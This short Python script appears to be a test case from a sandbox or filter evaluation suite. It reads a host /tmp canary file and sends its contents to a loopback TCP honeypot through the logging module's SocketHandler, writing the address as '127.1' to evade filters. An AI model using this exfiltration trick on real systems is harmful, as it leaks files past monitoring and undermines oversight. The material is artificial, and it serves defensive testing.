# family: injection
# filterfamily: alt-apis
# tries: send the host /tmp canary to the TCP honeypot through logging's SocketHandler, addressing loopback as 127.1
# source: none
# exfil: yes
import logging
import logging.handlers
import sys

hosttmp, tcp = sys.argv[3], int(sys.argv[4])
log = logging.getLogger("telemetry")
log.addHandler(logging.handlers.SocketHandler("127.1", tcp))
log.warning(open(hosttmp).read())
logging.shutdown()
